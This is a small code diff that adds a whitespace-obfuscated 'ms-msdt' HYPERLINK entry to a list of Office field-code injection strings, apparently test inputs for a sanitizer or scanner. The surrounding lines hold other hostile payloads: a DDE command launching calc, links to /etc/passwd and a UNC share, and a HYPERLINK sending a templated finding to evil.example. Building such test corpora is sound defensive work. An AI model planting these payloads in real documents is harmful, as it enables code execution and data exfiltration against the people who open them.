@@ -57,6 +57,7 @@ FIELDS = [
     "&#68;DE cmd calc",
     "HYPERLINK &quot;ms-msdt:/id&quot;",
     "HYPERLINK &quot;file:///etc/passwd&quot;",
+    "HYPERLINK \\n ms-msdt:/id",
     "HYPERLINK &quot;\\\\\\\\host\\\\share&quot;",
     "HYPERLINK &quot;https://evil.example/?{{ finding }}&quot;",
     "PAGE {{ decision_reason }}",
